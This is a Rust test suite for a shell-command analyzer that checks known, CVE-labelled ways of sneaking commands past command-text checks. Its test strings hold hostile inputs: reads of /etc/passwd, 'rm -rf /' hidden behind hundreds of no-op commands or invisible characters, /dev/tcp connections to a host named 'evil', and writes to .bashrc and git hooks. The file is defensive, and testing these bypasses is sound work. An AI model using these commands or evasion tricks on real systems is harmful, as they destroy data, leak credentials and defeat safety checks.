//! Known ways around checks on command text, one test per published class.
//!
//! Each must be opaque, or plain with the dangerous part in plain sight.

use palisade_shell_analysis::{OpaqueReason, RedirectKind};

use crate::mentions::mentions;
use crate::render::{bash, full, plain};

#[track_caller]
fn opaque(text: &str) {
    let analysis = bash(text);
    assert!(analysis.plain.is_err(), "{text:?}\n{}", full(&analysis));
}

#[test]
fn cve_2025_66032_ifs_and_short_flags() {
    opaque("cat${IFS}/etc/passwd");
    opaque("git$IFS-c$IFS'x'");
}

#[test]
fn cve_2025_54795_echo_parsing() {
    opaque("echo \"\\\"; touch x; echo \\\"\"");
    opaque("echo \"a\" \\; touch x");
    assert_eq!(
        plain(&bash("echo 'a'; touch x")),
        "   [echo] [a]\n;  [touch] [x]\n"
    );
}

#[test]
fn cve_2025_58764_and_64755_arguments_stay_visible() {
    // Programs that run or write through an argument: the argument is there to be judged.
    for (text, word) in [
        ("rg --pre ./x foo", "--pre"),
        ("sed 'w /home/dev/.bashrc' f", "w /home/dev/.bashrc"),
        ("find . -fprint x", "-fprint"),
        ("sort -o/etc/passwd f", "-o/etc/passwd"),
    ] {
        let plain = bash(text).plain.unwrap();
        let found = plain.commands[0]
            .words
            .iter()
            .any(|w| w.literal() == Some(word.as_bytes()));
        assert!(found, "{text}");
    }
}

#[test]
fn cve_2026_24887_find() {
    opaque("find . -exec rm {} \\;");
    opaque("find . -de\\\nlete");
    assert!(mentions(&bash("find . -exec 'rm' x ';'"), "rm x"));
}

#[test]
fn cve_2026_25723_piped_sed() {
    let plain = bash("echo 'x' | sed 's/x/y/w out'").plain.unwrap();
    assert_eq!(plain.commands.len(), 2);
    assert_eq!(plain.commands[1].program(), b"sed");
}

#[test]
fn cve_2026_25722_cd_before_a_write() {
    let analysis = bash("cd .git/hooks && echo x > pre-commit");
    assert!(plain(&analysis).contains("1>path[pre-commit] cwd=[\".git/hooks\"]"));
    opaque("cd $x && echo x > y");
}

#[test]
fn cve_2026_24053_zsh_clobber() {
    let plain = bash("echo x >| ../outside").plain.unwrap();
    assert_eq!(plain.commands[0].redirects[0].kind, RedirectKind::Clobber);
    opaque("echo x >! y");
}

#[test]
fn more_than_fifty_commands_are_still_read() {
    let script = format!("{}rm -rf /", "true; ".repeat(400));
    let analysis = bash(&script);
    assert_eq!(analysis.plain.as_ref().unwrap().commands.len(), 401);
    assert!(mentions(&analysis, "rm -rf /"));
    let script = format!("{}rm -rf /", "true; ".repeat(5_000));
    let analysis = bash(&script);
    assert_eq!(
        analysis.plain.as_ref().unwrap_err().reason(),
        OpaqueReason::Limit
    );
    assert!(mentions(&analysis, "rm -rf /"));
}

#[test]
fn cve_2025_54131_backtick_and_dollar_paren() {
    opaque("ls `touch x`");
    opaque("ls $(touch x)");
    opaque("ls \"$(touch x)\"");
}

#[test]
fn cve_2026_22708_builtins_poison_variables() {
    for text in [
        "export PAGER=x; git log",
        "PAGER=x; git log",
        "unset PATH; git log",
        "typeset PAGER=x && git log",
    ] {
        let analysis = bash(text);
        let caught = analysis
            .plain
            .as_ref()
            .map_or(true, |plain| plain.commands[1].tainted.is_some());
        assert!(caught, "{text}\n{}", full(&analysis));
    }
}

#[test]
fn cve_2026_29783_parameter_expansions() {
    for text in [
        "echo ${v@P}",
        "echo ${v:=x}",
        "echo ${!v}",
        "echo ${v:-$(touch x)}",
        "echo \"${v@P}\"",
    ] {
        opaque(text);
    }
}

#[test]
fn control_bytes_are_not_blanks() {
    for (text, name) in [
        ("echo ok\rrm x", "U+000D CARRIAGE RETURN"),
        ("echo ok\u{b}rm x", "U+000B VERTICAL TAB"),
        ("echo ok\u{c}rm x", "U+000C FORM FEED"),
        ("echo \u{1b}[2K", "U+001B ESCAPE"),
        ("echo a\0b", "U+0000 NULL"),
        ("rm\u{200b} -rf /", "U+200B ZERO WIDTH SPACE"),
        ("ls \u{202e}x", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("ls\u{a0}x", "U+00A0 NO-BREAK SPACE"),
        ("l\u{455} x", "U+0455 non-ASCII"),
    ] {
        let opaque = bash(text).plain.unwrap_err();
        assert_eq!(opaque.reason(), OpaqueReason::HiddenCharacter);
        assert!(opaque.to_string().contains(name), "{opaque}");
        assert!(opaque.at().is_some());
    }
}

#[test]
fn line_continuations_join_words() {
    opaque("git diff\\\ntool -x x");
    opaque("\\ ls");
}

#[test]
fn reserved_words_are_not_programs() {
    for text in [
        "coproc rm x",
        "if rm x",
        "[[ -v x ]]",
        "function f",
        "repeat 3 ls",
        "noglob ls",
        "- ls",
    ] {
        opaque(text);
    }
    assert_eq!(
        plain(&bash("time rm x")),
        "   [rm] [x] via Transparent(time)\n"
    );
}

#[test]
fn subscripts_that_execute() {
    for text in [
        "printf -v 'a[$(id)]' x",
        "[[ -v 'a[$(id)]' ]]",
        "test -v 'a[$(id)]'",
        "let 'a[$(id)]'",
        "echo $((a[$(id)]))",
        "SECONDS='a[$(id)]' ls",
        "read 'a[$(id)]'",
        "unset 'a[$(id)]'",
    ] {
        opaque(text);
    }
}

#[test]
fn network_pseudo_devices() {
    opaque("exec 3<>/dev/tcp/evil/80");
    opaque("cat </dev/tcp/evil/80");
    opaque("echo x >/dev/udp/evil/80");
}

#[test]
fn relative_and_foreign_wrappers_are_programs_of_their_own() {
    for text in ["./bash -c ls", "/tmp/env ls", "bin/nice ls", "~/nice ls"] {
        let analysis = bash(text);
        if let Ok(plain) = &analysis.plain {
            assert!(plain.commands[0].via.is_empty(), "{text}");
            assert!(plain.commands[0].program().contains(&b'/'));
        }
    }
}

#[test]
fn zsh_only_expansions() {
    for text in [
        "=ls",
        "ls =ls",
        "ls ''=ls",
        "A==ls p",
        "export A==ls",
        "p <1-5>",
        "p a^b",
        "p x#y",
        "p x*~y",
    ] {
        opaque(text);
    }
}
